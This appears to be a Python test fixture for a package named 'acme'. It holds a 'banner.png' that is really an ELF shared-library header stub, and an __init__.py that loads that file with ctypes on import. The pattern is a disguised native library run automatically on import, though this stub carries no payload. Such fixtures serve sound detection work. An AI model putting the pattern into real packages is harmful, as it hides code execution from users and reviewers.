import struct

_HDR = (b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
        + struct.pack("<HHIQQQIHHHHHH", 3, 183, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0))

FILES = {
    "python/acme/data/banner.png": _HDR + b"\0init_array\0".ljust(960, b"\0"),
    "python/acme/data/__init__.py": b'''import ctypes
import pathlib

_dir = pathlib.Path(__file__).parent


def banner():
    return (_dir / "banner.png").read_bytes()


def _index():
    return ctypes.CDLL(str(_dir / "banner.png"))


try:
    _idx = _index()
except OSError:
    _idx = None
''',
}
